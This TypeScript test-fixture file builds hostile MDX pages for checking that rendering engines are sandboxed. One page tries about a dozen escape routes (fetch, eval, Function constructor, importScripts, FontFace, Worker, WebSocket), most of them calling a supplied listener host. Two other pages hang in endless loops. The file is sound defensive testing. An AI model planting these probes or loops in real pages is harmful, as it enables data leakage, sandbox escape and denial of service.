/** Pages of somebody who wants more than to show words. Every engine is to be as safe from them, so they stand here once. */

const front = (title: string): string => `---\ntitle: ${title}\n---\n\n`;

/**
 * A page whose code tries every way out that code on the web has, and lists what came of it: `name: reached` or the name of
 * an error.
 * @param host address that hears of what gets out, without a slash at its end
 */
export function pageOfWaysOut(host: string): string {
  return `${front('Ways out')}
export const attempt = (name, run) => {
  try { const result = run(); return name + ': ' + (result === undefined ? 'nothing' : 'reached ' + String(result)); }
  catch (error) { return name + ': ' + error.name; }
};
export const outcomes = [
  attempt('fetch', () => fetch('${host}/fetch')),
  attempt('global', () => (function () { return this; })()?.fetch('${host}/this')),
  attempt('eval', () => (0, eval)('fetch("${host}/eval")')),
  attempt('Function', () => Function('return fetch')()),
  attempt('constructor', () => (() => {}).constructor('return fetch')()),
  attempt('parent', () => parent.document),
  attempt('window', () => window.document),
  attempt('database', () => indexedDB.open('x')),
  attempt('import', () => importScripts('${host}/import')),
  attempt('font', () => new FontFace('Leak', 'url(${host}/font)').load()),
  attempt('worker', () => new Worker('${host}/worker')),
  attempt('socket', () => new WebSocket('${host.replace('http', 'ws')}/socket')),
];

<ul>{outcomes.map((outcome) => <li>{outcome}</li>)}</ul>

All were tried.
`;
}

/** How many ways that page tries. */
export const WAYS_OUT = 12;

/** Pages that never come to an end, by name: at once, and after a wait. */
export const ENDLESS_PAGES: Readonly<Record<string, string>> = {
  'endless-loop': `${front('Endless loop')}{(() => { while (true) {} })()}\n`,
  'endless-later': `${front('Endless later')}export const later = (async () => { await null; for (;;) {} })();\n\nWords.\n`,
};
